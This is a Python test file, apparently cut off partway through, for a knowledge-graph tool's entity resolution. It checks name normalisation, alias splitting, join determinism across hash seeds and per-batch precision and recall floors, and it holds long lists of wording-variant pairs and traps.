"""Entity resolution: the rules, the analyst's aliases file in a build, `kg resolve`,
and precision/recall on the labelled pairs in tests/data."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings, strategies as st

from bench.resolution_eval import corpus_names, evaluate, read_pairs
from kg import InputError, build
from kg.cli import main
from kg.resolve import (AliasTable, accepted_candidates, candidates, join_keys, name_key,
                        normal_form, resolution_key, split_alias)
from kg.resolve.keys import _RENAMED_RE, _not_abbreviated

from .conftest import BASE, CORPUS, SEED, TODAY

PAIRS = read_pairs()

words = st.text(alphabet="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ -'&", max_size=40)


@settings(deadline=None)  # the first call loads lemminflect's tables
@given(words)
def test_normal_form_is_idempotent_and_ignores_case(text):
    once = normal_form(text.lower())
    assert normal_form(once) == once
    assert normal_form(text.title()) == once
    if not re.search(r"[a-z]{2}s\b", text.lower()):  # (capitals ending in S: an acronym)
        assert normal_form(text.upper()) == normal_form(once.upper()) == once


def test_an_acronym_in_capitals_is_no_plural():
    # (a review's false joins: AIDS as aid, SARS as synthetic aperture radar)
    assert normal_form("AIDS") != normal_form("aid")
    assert normal_form("HIV/AIDS") == "hiv aids"
    assert normal_form("SARS Outbreak") != normal_form("SAR outbreak")
    assert normal_form("EVs") == normal_form("EV") == normal_form("EVS") == "ev"
    assert normal_form("GENERATIVE AI AND LLMS") == normal_form("generative AI and LLMs")
    assert normal_form("NEW TOOLS") == normal_form("new tools") == "new tool"


@given(words, words)
def test_parentheses_give_name_and_alias(name, alias):
    if "(" in name + alias or ")" in name + alias or not name.strip() or not alias.strip() \
            or _RENAMED_RE.fullmatch(alias.strip()):  # ("X (aka Y)": RENAMED below)
        return
    # (the alias keeps the words the parenthesis does not stand for: "Rise of AI" of
    # "Rise of Artificial Intelligence (AI)")
    kept = _not_abbreviated(name.strip(), alias.strip())
    assert split_alias(f"{name} ({alias})") == (name.strip(), kept + alias.strip())
    assert name.split()[:len(kept.split())] == kept.split() and (not kept or kept[-1] == " ")
    assert len(kept.split()) < len(name.split()) or not kept


def test_the_alias_keeps_the_words_the_parenthesis_does_not_stand_for():
    assert [split_alias(n)[1] for n in (
        "Rise of Artificial Intelligence (AI) in AEC", "Rise of the Internet of Things (IoT)",
        "Use of GenAI (Generative AI) in Schools", "Growth of EVs (electric vehicles)",
        "First-Person View (FPV) Drones", "Generative AI (Gen AI)", "GenAI (Generative AI) Tools",
        "Emotional Intelligence (EQ) Enhancement", "Bans on Generative AI (GenAI) Tools",
        "Decline of Augmented and Virtual Reality (AR/VR) Headsets",
        "Adoption of Gen AI (Generative AI)", "Software as a Service (SaaS)")] == [
        "Rise of AI in AEC", "Rise of the IoT", "Use of Generative AI in Schools",
        "Growth of electric vehicles", "FPV Drones", "Gen AI", "Generative AI Tools",
        "EQ Enhancement", "Bans on GenAI Tools", "Decline of AR/VR Headsets",
        "Adoption of Generative AI", "SaaS"]


def test_rules():
    assert resolution_key("Generative AI (Gen AI)") == resolution_key("generative  AI")
    assert resolution_key("Behaviour change") == resolution_key("behavior changes")
    assert resolution_key("AI") != resolution_key("AI ethics")
    assert resolution_key("Physics") != resolution_key("physic")
    # a name of mixed case ending in a capital S is no plural; an article inside a
    # hyphenated compound is a word of its own (a lone letter only starts one: e-mail)
    assert [resolution_key(n) for n in ("SaaS", "macOS", "iPhones", "LLMs", "DevOps")] == \
        ["saas", "macos", "iphone", "llm", "devops"]
    assert resolution_key("software-as-a-service") == "software as a service"
    assert resolution_key("E-mail x-rays") == "email xray"
    # initials written with full stops are the acronym ("A.I." was "i": the article a)
    assert [resolution_key(n) for n in ("A.I.", "I.T. budgets", "U.S policy", "e.g.")] == \
        ["ai", "it budget", "us policy", "eg"]
    assert resolution_key("J. Smith") == "j smith" and resolution_key("v2.x") == "v2 x"
    # British -elling as American only where American spells it so (not selling, shelling)
    assert [resolution_key(n) for n in ("Social Selling", "Shelling", "Spelling Reform",
                                        "Compelling Stories", "Dwelling Units")] == \
        ["social selling", "shelling", "spelling reform", "compelling story", "dwelling unit"]
    assert resolution_key("Travelling Exhibitions") == resolution_key("traveling exhibitions")
    assert resolution_key("Labelled Data") == resolution_key("labeled data")
    assert resolution_key("Modelling Tools") == resolution_key("modeling tools")
    assert resolution_key("AI-fuelled growth") == resolution_key("AI-fueled growth")
    # an -ics noun is its adjective only before the word it modifies, not before "and"
    # or a preposition, where its phrase ends ("DIY Electronics and Maker Culture")
    assert [resolution_key(n) for n in ("Electronics Warfare", "Electronics and Maker Culture",
                                        "Robotics in Surgery")] == \
        ["electronic warfare", "electronics and maker culture", "robotics in surgery"]
    # a word the lexicon lacks is read by a plural rule, but not a noun WordNet knows
    # (kg/lexicon/noun-lemmas.csv): Christmas is no plural, calories are of a calorie
    assert [resolution_key(n) for n in ("Christmas Shopping", "Siemens", "Calories",
                                        "Veggies", "Chatbots", "Cryptocurrencies")] == \
        ["christmas shopping", "siemens", "calorie", "veggie", "chatbot", "cryptocurrency"]
    assert [resolution_key(n) for n in ("Selfies", "Superheroes", "Emojis", "Tetris")] == \
        ["selfie", "superhero", "emoji", "tetris"]  # (newer nouns than WordNet's)
    assert resolution_key("Jevons Paradox") == "jevons paradox"
    # a plural with a meaning of its own stays plural
    assert resolution_key("Securities Law") != resolution_key("Security Law")
    assert resolution_key("Digital Humanities") != resolution_key("Digital Humanity")


# Each blind batch's floors, as measured (its suffix in `case` -> tune precision,
# holdout precision, tune recall, holdout recall; None: not held on its own).
_FLOORED = (("tune", "precision"), ("holdout", "precision"), ("tune", "recall"),
            ("holdout", "recall"))
BATCH_FLOORS = {
    # the eleventh and twelfth: a second run's names of real articles' things, a third
    # joined (0.571 / 0.324 and 0.421 / 0.278 recall, tune / holdout)
    "blind 11]": (None, None, 0.55, 0.32),
    "blind 12]": (None, None, 0.42, 0.27),
    # the thirteenth: traps written against the rules (0.522 / 0.607 precision before
    # the rules taken from its tune half)
    "helper 85]": (0.72, 0.84, 0.72, 0.64),
    # the fourteenth: traps written blind (0.567 / 0.505 precision when first measured,
    # 0.836 / 0.821 recall; two rules taken from its tune half since)
    "blind 14]": (0.57, 0.50, 0.83, 0.82),
    # the fifteenth: everyday variation and realistic traps, written blind (0.963 /
    # 1.000 precision, 0.634 / 0.577 recall when first measured, before the spacing,
    # measure and numeral rules of its session; XAI out of the table since: xAI, the
    # company, joined explainable AI)
    "blind 15]": (0.96, 0.98, 0.70, 0.61),
    # the sixteenth: a second run over real articles, as the eleventh (1.000 / 0.958
    # precision, 0.450 / 0.575 recall when first measured; rules from its tune half since)
    "blind 16]": (0.98, 0.95, 0.57, 0.57),
    # the seventeenth: a third run over real articles (0.923 / 1.000 precision, 0.300 /
    # 0.400 recall when first measured, alone)
    "blind 17]": (0.93, 0.98, 0.35, 0.40),
    # the eighteenth: everyday variation and traps, invented blind (1.000 / 1.000
    # precision, 0.625 / 0.615 recall when first measured, alone)
    "blind 18]": (0.98, 0.98, 0.62, 0.61),
    # the nineteenth: paraphrases and traps, invented blind (1.000 / 0.929 precision,
    # 0.205 / 0.232 recall when first measured, alone)
    "blind 19]": (0.98, 0.92, 0.20, 0.23),
    # the twentieth: a fourth run over real articles (0.933 / 1.000 precision, 0.438 /
    # 0.576 recall when first measured, alone)
    "blind 20]": (0.93, 0.98, 0.46, 0.57),
    # the twenty-first: everyday variation and traps, invented blind (0.955 / 0.955
    # precision, 0.382 / 0.382 recall when first measured, alone; rules from its tune
    # half since)
    "blind 21]": (0.96, 0.95, 0.50, 0.40),
    # the twenty-second: a fifth run over real articles (1.000 / 1.000 precision, 0.525 /
    # 0.350 recall when first measured, alone; rules from its tune half since)
    "blind 22]": (0.98, 0.98, 0.60, 0.35),
    # the twenty-third: a sixth run over real articles (1.000 / 1.000 precision, 0.575 /
    # 0.375 recall when first measured, alone; rules from its tune half since)
    "blind 23]": (0.98, 0.98, 0.67, 0.40),
    # the twenty-fourth: a seventh run over real articles, measured once at the end of the
    # session that wrote it (1.000 / 1.000 precision, 0.600 / 0.575 recall; 0.575 /
    # 0.575 with the code of that session's start)
    "blind 24]": (0.98, 0.98, 0.60, 0.57),
    # the twenty-fifth: an eighth run over real articles, a fifth of them driving-force
    # sentences (1.000 / 1.000 precision, 0.225 / 0.350 recall at the start of the
    # session that wrote it; 0.325 / 0.350 at its end, rules from its tune half; a little
    # lower alone)
    "blind 25]": (0.98, 0.98, 0.30, 0.32),
    # the twenty-sixth: everyday variation and traps, invented blind (1.000 / 0.967
    # precision, 0.582 / 0.527 recall with the code of the start of the session that
    # wrote it; 1.000 / 1.000, 0.618 / 0.509 at its end, alone)
    "blind 26]": (0.98, 0.98, 0.58, 0.50),
}


def test_resolution_eval_measures_one_batch_alone(tmp_path, capsys):
    from bench.resolution_eval import main

    pairs = tmp_path / "pairs.csv"
    pairs.write_text("first,first_type,second,second_type,same,case,split\n"
                     "Electric Vehicles,Technology,EVs,Technology,1,acronym [a],tune\n"
                     "Solar Power,Technology,Wind Power,Technology,0,trap [b],holdout\n",
                     encoding="utf-8")
    main(["--pairs", str(pairs), "--corpus", "--batch", "[a]"])
    out = capsys.readouterr().out
    assert out.startswith("1 labelled pairs: tune 1 same / 0 not, holdout 0 same / 0 not")
    assert "| plain build | tune | 1.000 | 1.000 | 1 | 0 | 0 |" in out
    with pytest.raises(SystemExit):
        main(["--pairs", str(pairs), "--corpus", "--batch", "[c]"])


def test_labelled_pairs_hold_precision_and_the_review_never_lowers_it():
    """Issue 14's goals on tests/data/resolution-pairs.csv: precision >= 0.97 on tune and
    holdout pairs, for the plain build and after `kg resolve --accept`: held on the
    rows before the fourth blind batch, and at 0.96 on all (that batch's traps, made to
    look like its adjective rules, the sixth's homonyms and the seventh's bring the
    holdout half to 0.970 with the corpus' names as evidence, 0.967 without; their false
    joins come from rules older than them: see resolution-criteria.md);
    recall is held at what bench/resolution_eval.py measured (below the 0.85 goal: see
    the README)."""
    assert len(PAIRS) >= 600
    assert sum(r["same"] == "1" for r in PAIRS) >= 250 and sum(r["same"] == "0" for r in PAIRS) >= 250
    names = corpus_names([CORPUS, SEED])  # the corpus' own "X (Y)" names are evidence
    # (the fourteenth batch, traps written blind against the rules, apart: its figures
    # are its own, below)
    written = [r for r in PAIRS if not r["case"].endswith("blind 14]")]
    plain, reviewed = evaluate(written, names), evaluate(PAIRS, names, review=True)
    every = evaluate(PAIRS, names)
    for split in ("tune", "holdout"):
        assert plain[split].precision >= 0.96, plain[split].wrong
        before = evaluate(PAIRS[:1386], names)[split]  # (the rows before that batch)
        assert before.precision >= 0.97, before.wrong
        assert reviewed[split].precision >= every[split].precision, reviewed[split].wrong
        assert reviewed[split].recall >= every[split].recall
    if names:
        later = tuple(BATCH_FLOORS)  # (the rows before the eleventh batch)
        before_eleventh = evaluate([r for r in PAIRS if not r["case"].endswith(later)], names)
        assert before_eleventh["tune"].recall >= 0.66 and before_eleventh["holdout"].recall >= 0.70
        for batch, floors in BATCH_FLOORS.items():
            score = evaluate([r for r in PAIRS if r["case"].endswith(batch)], names)
            for (split, measure), floor in zip(_FLOORED, floors):
                if floor is not None:
                    assert getattr(score[split], measure) >= floor, (batch, split, measure)
        # (the tune rows before the tenth batch, whose 236 same pairs mix two or three
        # kinds of variation at once and are a quarter joined)
        earlier = evaluate([r for r in PAIRS if "two runs 10]" not in r["case"]
                            and not r["case"].endswith(later)], names)
        assert earlier["tune"].recall >= 0.82


# (run in a fresh process per hash seed: the joins printed as JSON)
_JOIN_IN_A_PROCESS = """
import json, sys
from kg.resolve import join_keys
print(json.dumps(sorted(join_keys([tuple(n) for n in json.load(sys.stdin)]).items())))
"""


def _joins_with_hash_seed(names: list[tuple[str, str]], seed: str) -> list:
    import json
    import os
    import subprocess
    import sys

    done = subprocess.run([sys.executable, "-c", _JOIN_IN_A_PROCESS], input=json.dumps(names),
                          capture_output=True, text=True, check=True,
                          env={**os.environ, "PYTHONHASHSEED": seed})
    return [tuple(pair) for pair in json.loads(done.stdout)]


def test_the_same_joins_whatever_the_hash_seed():
    """An acronym spelled out inside a reordered name met the key of whichever of its
    forms a set gave first: "Consumption of UPFs" joined "Ultra-Processed Food (UPF)
    Consumption" under some hash seeds and not under others, and the build was no
    longer the same for the same input. Also on every labelled pair's names at once."""
    upf = [("issue", "Ultra-Processed Food (UPF) Consumption"), ("issue", "Consumption of UPFs"),
           ("issue", "Consumption of Ultraprocessed Food")]
    expected = [("consumption of ultraprocessed food", "consumption of upf"),
                ("ultra processed food consumption", "consumption of upf")]
    assert sorted(join_keys(upf).items()) == expected
    for seed in "12345678":
        assert _joins_with_hash_seed(upf, seed) == expected, seed
    labelled = sorted({(r["first_type"], r["first"]) for r in PAIRS} |
                      {(r["second_type"], r["second"]) for r in PAIRS})
    joined = sorted(join_keys(labelled).items())
    assert len(joined) > 1000
    assert _joins_with_hash_seed(labelled, "1") == joined


def test_issue_examples_are_one_node():
    joined = join_keys([("technology", "cellular automata"), ("keyword", "cellular automaton"),
                        ("technology", "electronic warfare"), ("keyword", "electronics warfare"),
                        ("theme", "Cybernetics in Management"),
                        ("keyword", "management cybernetics"),
                        ("technology", "AR/VR"),
                        ("technology", "Augmented Reality/Virtual Reality (AR/VR)"),
                        ("technology", "Generative Artificial Intelligence (Gen AI)"),
                        ("keyword", "generative AI"), ("keyword", "LLMs"),
                        ("technology", "Large Language Models"),
                        ("keyword", "AI"), ("theme", "architectural innovation"),
                        ("theme", "AEC industry")])

    def node(name):
        key = resolution_key(name)
        return joined.get(key, key)

    for first, second in [("cellular automata", "cellular automaton"),
                          ("electronic warfare", "electronics warfare"),
                          ("Cybernetics in Management", "management cybernetics"),
                          ("AR/VR", "Augmented Reality/Virtual Reality (AR/VR)"),
                          ("Generative Artificial Intelligence (Gen AI)", "generative AI"),
                          ("LLMs", "Large Language Models")]:
        assert node(first) == node(second), (first, second)
    # Two-letter initials never join on their own (the review flow once joined these).
    assert len({node("AI"), node("architectural innovation"), node("AEC industry")}) == 3


WORDING_VARIANTS = [  # (first, second, one node?): how machine-written names vary
    # a word of decline before "of" or "in" is its noun; a word of growth is not
    ("Shrinking of the Middle Class", "Shrinking Middle Class", True),
    ("Declining in Popularity", "Decline in Popularity", True),
    ("Growing of Vegetables", "Growth of Vegetables", False),
    # "+" and "#" closing a word name another thing (a review: C++ and C# were one node)
    ("C++", "C#", False),
    ("C++", "C", False),
    ("F#", "F", False),
    ("Disney+", "Disney", False),
    ("Disney+", "Disney Plus", True),
    ("#MeToo", "MeToo", True),
    ("A+ Rating", "Plus Rating", False),
    ("C++17", "C17", False),
    ("C++17", "C++ 17", True),
    ("Windows 10+", "Windows 10", True),
    ("Galaxy S23+", "Galaxy S23", False),
    ("Dependence on Technology", "Technological Dependence", True),
    ("Political Polarization", "polarization in politics", True),
    ("Economic Inequality", "inequality in the economy", True),
    ("Ukrainian National Guard", "National Guard of Ukraine", True),
    ("Addiction to Social Media", "social media addiction", True),
    ("Loneliness among young people", "young people loneliness", True),
    ("Collaboration between humans and AI", "Human-AI collaboration", True),
    ("US-China relations", "China-US Relations", True),  # the parties of a tie
    ("Public-Private Partnerships", "private-public partnership", True),
    ("Government-business relationship", "Business-Government Relationship", True),
    ("US-China relations", "China-US trade", False),
    ("Machine Learning Research", "Learning Machine Research", False),  # (no tie word)
    # a name's forms as written meet beside its rewritten ones ("utilization of" is "use of")
    ("Kinetic Energy Utilization", "Utilization of kinetic energy", True),
    ("Design driven by AI", "AI-driven design", True),
    ("Regulating AI", "AI regulation", True),
    ("Automating jobs", "job automation", True),
    ("Heat-Related Deaths", "heat deaths", True),
    ("Data Privacy Risks", "Data privacy concerns", True),
    ("Web 3.0", "Web3", True),
    ("Chat GPT", "ChatGPT", True),
    ("Impact of AI on Jobs", "AI's impact on jobs", True),
    ("Concerns about data privacy", "data privacy concerns", True),
    ("Reducing carbon emissions", "carbon emissions reduction", True),
    ("Growing inequality", "growth of inequality", True),
    ("Aging of the population", "population ageing", True),
    ("Ethical Use of AI", "Ethical AI Use", True),
    ("Combining Structured and Unstructured Data",
     "Combination of Structured and Unstructured Data", True),
    ("Agents based on LLMs", "LLM-based agents", True),
    ("Surveillance by foreign governments", "foreign government surveillance", True),
    ("E-bikes", "electric bikes", True),
    ("E-waste", "electronic waste", True),
    ("Ethical AI Usage", "Ethical Use of AI", True),
    ("Rapid Growth of Remote Work", "Rapid Remote Work Growth", True),
    ("Water usage in data centres", "water use in data centers", True),
    ("Trauma in Historical Context", "Historical Trauma", False),
    # ("X in ADJ context" is no "ADJ X", often a term: "historical trauma")
    ("Privacy in a Business Context", "business privacy", False),
    # an adjective of kg/lexicon/adjective-nouns.csv is the noun it is made from, against
    # a name as written
    ("Electoral Interference", "Election Interference", True),
    ("Statistical Literacy", "Statistics Literacy", True),
    ("Societal Operating Systems", "Society Operating Systems", True),
    ("Organisational Culture", "Organization Culture", True),
    ("Diagnostic Tools", "Diagnosis Tools", True),
    # ... not against a reordered name nor after a generic word is dropped; the table
    # holds no adjective of a quality, of a people, of another sense today, of a noun
    # of two fields, nor of a compound (a review's false joins)
    ("Surgical Strikes", "Strikes in Surgery", False),
    ("Historical Fiction", "History in Fiction", False),
    ("Chinese Tariffs", "Tariffs on China", False),
    ("EU Strategic Technology", "EU Strategy", False),
    ("strategic technology", "strategy", False),
    ("Agricultural Technologies in Africa", "Agriculture in Africa", False),
    ("Sustainable Fashion", "sustainability in fashion", False),
    ("Generational Mix", "Generation Mix", False),
    ("Quantized Models", "Quantum Models", False),
    ("Frictionless Payments", "Friction in Payments", False),
    ("Nitric Oxide", "Nitrogen Oxides", False),
    ("Colorectal Cancer", "Colon Cancer", False),
    ("Economic Class", "Economy Class", False),
    ("Doctoral Training", "Doctor Training", False),
    ("Cellular Data", "Cell Data", False),
    # a leading adjective meets a reordered name with the noun its ending gives; the
    # table's noun only a name as written ("parliamentary scrutiny" is no scrutiny of
    # parliament), and not where a name writes the adjective as a noun; no "X-ing of Y"
    # as "X-ing Y"
    ("Political Corruption", "corruption in politics", True),
    ("Parliamentary Scrutiny", "Scrutiny of Parliament", False),
    ("Presidential Pressure", "Pressure on the President", False),
    ("Ministerial Criticism", "Criticism of Ministers", False),
    ("Russian Scrutiny", "Scrutiny of Russia", False),  # (a people's adjective neither)
    ("Societal Pressure", "Pressure on Society", False),
    ("Company Financials", "Company Finance", False),
    ("Tracking of Devices", "Tracking Devices", False),
    # a people's adjective meets "X of Y" and "X in Y", not "in" after people who move
    # or things done to a place, nor "on"
    ("Indian Elections", "Elections in India", True),
    ("Ukrainian Refugees", "Refugees in Ukraine", False),
    ("Japanese Investment", "Investment in Japan", False),
    ("Russian Cyberattacks", "Cyberattacks on Russia", False),
    ("African Americans", "Americans in Africa", False),
    ("Russian Invasion", "Invasion of Russia", False),
    ("Russian Intervention", "Intervention in Russia", False),
    ("Ukrainian Independence", "Independence of Ukraine", True),
    # ... nor in a name of its own (kg/lexicon/fixed-names.csv), but a place's feature is
    # the place's
    ("American Football", "Football in America", False),
    ("Siamese Twins", "Twins in Siam", False),
    ("Japanese Beetles", "Beetles in Japan", False),
    # a generic last word after one word only when that word is coined or an acronym;
    # "effect" and "phenomenon" after two words or more (a review's false joins)
    ("Blockchain Technology", "Blockchain", True),
    ("AI Technology", "AI", True),
    ("Health Technology", "Health", False),
    ("Climate Tech", "Climate", False),
    ("Greenhouse Effect", "Greenhouses", False),
    ("Urban Heat Island Effect", "Urban Heat Islands", True),
    # one preposition for another only among of, in, for (a review's false joins)
    ("Decline of Birth Rates", "Decline in Birth Rates", True),
    ("Funding for Research", "Funding of Research", True),
    ("Work with AI", "Work on AI", False),
    ("Investment with AI", "Investment in AI", False),
    # "X in Y" is "X Y" as written, never "Y in X"
    ("Blockchain in Supply Chains", "Blockchain Supply Chains", True),
    ("AI in Cybersecurity", "Cybersecurity in AI", False),
    ("Ethics in AI", "AI in Ethics", False),
    ("Korean Peninsula", "Peninsula of Korea", True),
    ("Russian Orthodox Church", "Orthodox Church in Russia", True),
    ("Texan Elections", "Elections in Texas", True),
    # "AI-generated" media are AI's, as "AI-driven" tools are
    ("AI-generated art", "AI art", True),
    ("AI-Generated Images", "AI images", True),
    ("AI-Generated Films", "AI Films", False),  # (films about AI)
    ("Computer-Generated Music", "computer music", False),
    ("AI-assisted writing", "AI writing", False),
    ("AI-generated Research", "AI Research", False),  # (only what is seen or heard)
    ("Patient-generated Data", "patient data", False),
    # traps: an adjective is not the noun it looks made from unless the other name puts
    # that noun after a preposition; an -ing noun is not its verb's noun; versions differ
    ("Organic Farming", "organ farming", False),
    ("Digital Marketing", "digit marketing", False),
    ("Marketing Automation", "automation market", False),
    ("Web 3.0.1", "Web 3.1", False),
    ("Web 4.0", "Web3", False),
    ("Data Privacy Risks", "Data Security Risks", False),
    ("Data Privacy Risks", "data privacy", False),
    ("Impact of AI on Jobs", "AI impact on education", False),
    ("Luxury to Budget", "Budget to Luxury", False),
    ("Ethical Use of AI", "Ethical AI", False),
    ("Events", "electric vents", False),
    # (found by a review of these rules)
    ("Native advertising", "National advertising", False),
    ("Executive order", "Order of execution", False),
    ("Current value", "Value of the currency", False),
    ("Organic waste", "Waste of organs", False),
    ("Developing countries", "Development of countries", False),
    ("Operating system", "System operation", False),
    ("Text-to-image", "image text", False),
    ("Business to consumer", "consumer business", False),
    ("Privacy by design", "design privacy", False),
    ("Mini LED TVs", "Mini TVs", False),
    ("Market risk", "Market concerns", False),
    ("Cellular Automata in Historical Context", "Cellular Automata", False),
    ("Context of historical cryptography", "Historical cryptography", False),
    ("Usage-based pricing", "use-based pricing", True),
    ("User data", "Use data", False),
    # a variant reordered: a generic last word dropped, then "X in Y" as "Y X"; never the
    # other way round (a reordered name keeps its generic word)
    ("Bias detection in AI systems", "AI bias detection", True),
    ("Technology in advertising", "Advertising", False),
    ("Remote working", "remote work", True),
    ("Working from home", "work from home", True),
    ("Working memory", "memory", False),
    # a first word of growth or decline before two words or more is one wording (before
    # one word it may be another thing: "rising powers", "increasing returns")
    ("Increasing Middle Manager Burnout", "Rising Middle Manager Burnout", True),
    ("Shrinking Middle Class in America", "Declining middle class in America", True),
    ("Increasing sea levels", "rise in sea levels", True),
    ("Soaring Housing Costs", "Rise in Housing Costs", True),
    ("Diminishing Marginal Returns", "Declining Marginal Returns", False),
    ("Governing AI", "AI Government", False),
    ("Regulating AI", "AI Regulation", True),
    ("Escalating Trade Tensions", "Growing Trade Tensions", True),
    ("Rising Interest Rates", "Falling Interest Rates", False),
    # (a review's false joins: a particle or fixed phrase after the word, "falling")
    ("Growing Up Online", "Rising Up Online", False),
    ("Growing Degree Days", "Increasing Degree Days", False),
    ("Falling Space Debris", "Decline in Space Debris", False),
    # "falling" is "declining" before what is measured only
    ("Falling Birth Rates", "Declining Birth Rates", True),
    ("Falling Prices", "Rising Prices", False),
    ("Falling Stars", "Declining Stars", False),
    # "at" reorders like "of"; a leading -ing word's noun stays before a second phrase;
    # "town of X" is X
    ("Attendance at Funerals", "funeral attendance", True),
    ("Declining Attendance at Funerals", "funeral attendance decline", True),
    ("Town of Viganella", "Viganella", True),
    ("City of London", "London", False),
    ("Village of the Damned", "The Damned", False),
    # (a review's false joins: "from" is no "for", "at scale" no name, a municipality
    # its government, a village named after a word)
    ("Investment in China", "Investment from China", False),
    ("Support for Parents", "Support from Parents", False),
    ("AI at Scale", "Scale AI", False),
    ("Life at Sea", "Sea Life", False),
    ("Municipality of Amsterdam", "Amsterdam", False),
    ("Village of Longevity", "Longevity", False),
    # two words around "and" either way before a shared head; a possessive without its
    # apostrophe
    ("Energy and Climate Policy", "Climate and Energy Policy", True),
    ("Food and Energy Prices", "Energy Prices", False),
    # (a review's false joins: a compound split, a direction turned)
    ("Social Media and Justice", "Social Justice and Media", False),
    ("Rise and Fall of Bitcoin", "Fall and Rise of Bitcoin", False),
    ("Mental Health Problems", "Mental Health Risks", False),
    ("Women's Health", "Womens Health", True),
    # (a review's false joins: a company named after a word is not the word)
    ("News Corp", "news", False),
    ("Visa Inc.", "visas", False),
    ("National Grid plc", "national grid", False),
    # a last word that adds nothing after two words or more
    ("Gene Editing Techniques", "gene editing", True),
    ("Carbon Accounting Methods", "carbon accounting", True),
    ("Scientific Method", "Scientific", False),
    # (a review's false joins of other last words: a remedy, a negotiation, a behaviour,
    # a framing are not what they are about)
    ("Climate Change Solutions", "Climate Change", False),
    ("Middle East Peace Process", "Peace in the Middle East", False),
    ("Ethical AI Practices", "Ethical AI", False),
    ("Public Health Approach", "Public Health", False),
    # (a review's false joins: a named problem is no worry, an addiction no risk)
    ("AI Control Problem", "AI Control Concerns", False),
    ("Online Gambling Problems", "Online Gambling Risks", False),
    # spacing inside a variant, as between whole names ("homeschooling" / "home-schooling")
    ("Rise of Homeschooling", "Growing Home-Schooling", True),
    ("Videogame Addiction", "Addiction to Video Games", True),
    ("Ultra-Processed Food Consumption", "Consumption of Ultraprocessed Foods", True),
    ("Zero-Day Exploits", "0-Day Exploits", True),
    ("Rise of Homeschooling", "Decline of Home-Schooling", False),
    # (only words next to each other as written: a review's false joins)
    ("Employment in the UN", "Unemployment", False),
    ("Man-in-the-Middle", "Middlemen", False),
    ("Pets in Cars", "Carpets", False),
    ("Forces at Work", "Workforce", False),
    ("Warming of 1.5 Degrees", "15 Degree Warming", False),
    ("China's Chang'e Program", "Change Program in China", False),
    ("Re-Creation of Historic Sites", "Recreation at Historic Sites", False),
    ("Reuse of Materials", "Material Re-Use", True),
    ("Co-operation of Banks", "Bank Cooperation", True),
    ("Users of GPT-4", "GPT4 Users", True),
    # a measure's change as its rise or decline
    ("Rising Electricity Prices", "Electricity Price Increases", True),
    ("Price Hikes", "Rising Prices", True),
    ("Funeral Attendance Drop", "Declining Funeral Attendance", True),
    ("Trust Fall", "Falling Trust", False),
    ("Price Increases", "Declining Prices", False),
    # a last number, or one after a word that numbers, as its digits
    ("Artemis II", "Artemis 2", True),
    ("Type I Diabetes", "Type 1 Diabetes", True),
    ("Stage Four Cancer", "Stage 4 Cancer", True),
    ("Generation X", "Generation 10", False),
    ("President Xi", "President 11", False),
    ("One Health", "1 Health", False),
]


def node_of(pairs, kind="concern"):
    """name -> its node's key, in a corpus of the names of (first, second, _) pairs."""
    joined = join_keys([(kind, name) for first, second, _ in pairs for name in (first, second)])

    def node(name):
        key = resolution_key(name)
        return joined.get(key, key)
    return node


def test_wording_variants_are_one_node_and_traps_are_not():
    node = node_of(WORDING_VARIANTS)
    decided = [(first, second, node(first) == node(second)) for first, second, _ in WORDING_VARIANTS]
    assert decided == WORDING_VARIANTS


# (first, second, one node?) for the prepositions, derivations and spellings of the
# twentieth session, with the traps its review wrote (each pair its own corpus)
PREPOSITIONS_AND_DERIVATIONS = [
    # "toward" is "to", as written only
    ("Shift Towards Plant-Based Diets", "Shift to Plant-Based Diets", True),
    ("Attitudes toward AI", "Attitudes to AI", True),
    ("Violence towards the Police", "Police Violence", False),
    ("Exodus toward Big Cities", "Big City Exodus", False),
    # a backlash against a thing, what comes from a source: "Y X" as written
    ("Backlash Against AI", "AI backlash", True),
    ("Pushback against ESG", "ESG Pushback", True),
    ("Pollution from Plastics", "Plastic Pollution", True),
    ("Smoke from Wildfires", "Wildfire Smoke", True),
    ("Emissions from Shipping", "Shipping Emissions", True),
    ("Textile Waste from Fast Fashion", "Fast-Fashion Textile Waste", True),
    ("Waste Heat from Data Centres", "Data Centre Waste Heat", True),
    ("Backlash against Consumers", "Consumer Backlash", False),
    ("Backlash against the Media", "Media Backlash", False),
    ("Backlash against Big Tech", "Big Tech Backlash", False),
    ("Revenue from Facebook", "Facebook Revenue", False),
    ("Campaign against Vaccination", "Vaccination Campaign", False),
    ("Protests against Farmers", "Farmer Protests", False),
    ("Bias against AI", "AI Bias", False),
    ("Imports from China", "China Imports", False),
    ("Aid from Ukraine", "Ukraine Aid", False),
    ("Migration from the Cloud", "Cloud Migration", False),
    ("Energy from Waste", "Waste Energy", False),
    ("Investment from China", "China Investment", False),
    # attacks on what attacks are not its attacks
    ("Attacks on Drones", "Drone Attacks", False),
    ("Attacks on Sharks", "Shark Attacks", False),
    ("Cyberattacks on Hospitals", "Hospital Cyberattacks", True),
    # learned adjectives in -ical and -ic; not biological / biologic
    ("Hydrological Extremes", "Hydrologic Extremes", True),
    ("Geographical Indications", "Geographic Indications", True),
    ("Agricultural Biologicals", "Agricultural Biologics", False),
    ("Economical Cars", "Economic Cars", False),
    ("Historical Buildings", "Historic Buildings", False),
    # adjectives met by their nouns in a reordered name
    ("Algorithmic Bias", "Bias in Algorithms", True),
    ("Societal Polarization", "Polarization in Society", True),
    ("Algorithmic Transparency", "Transparency of Algorithms", True),
    ("Algorithmic Trading", "Trading by Algorithms", False),
    ("Algorithmic Trading", "Trading of Algorithms", False),
    ("Algorithmic Ranking", "Ranking of Algorithms", False),
    ("Societal Views", "Views on Society", False),
    # a coined verb's -ing before its object
    ("Reskilling Workers", "Worker Reskilling", True),
    ("Decarbonising Steelmaking", "Steelmaking Decarbonisation", True),
    ("Digitalising Public Services", "Digitalisation of Public Services", True),
    ("Crowdfunding Platforms", "Platform Crowdfunding", False),
    ("Gatekeeping AI", "AI Gatekeeping", False),
    # (not kept: "by" before one word reads who acts and who is acted on alike, a link
    # word inside a name, "trend" as a generic word: a review's false joins)
    ("Regulation by Platforms", "Platform Regulation", False),
    ("Risk of Heat-Related Death", "Risk of Heat Death", False),
    ("Stock Market Trend", "Stock Market", False),
    # "the N of M" closing a longer name
    ("Storytelling as a Tool for the Ethics of AI", "Storytelling as a Tool for AI Ethics",
     True),
    ("Investment in the Impact of AI", "Investment in AI Impact", True),
    ("Concerns about the Future of Oil", "Concerns about Oil Futures", False),
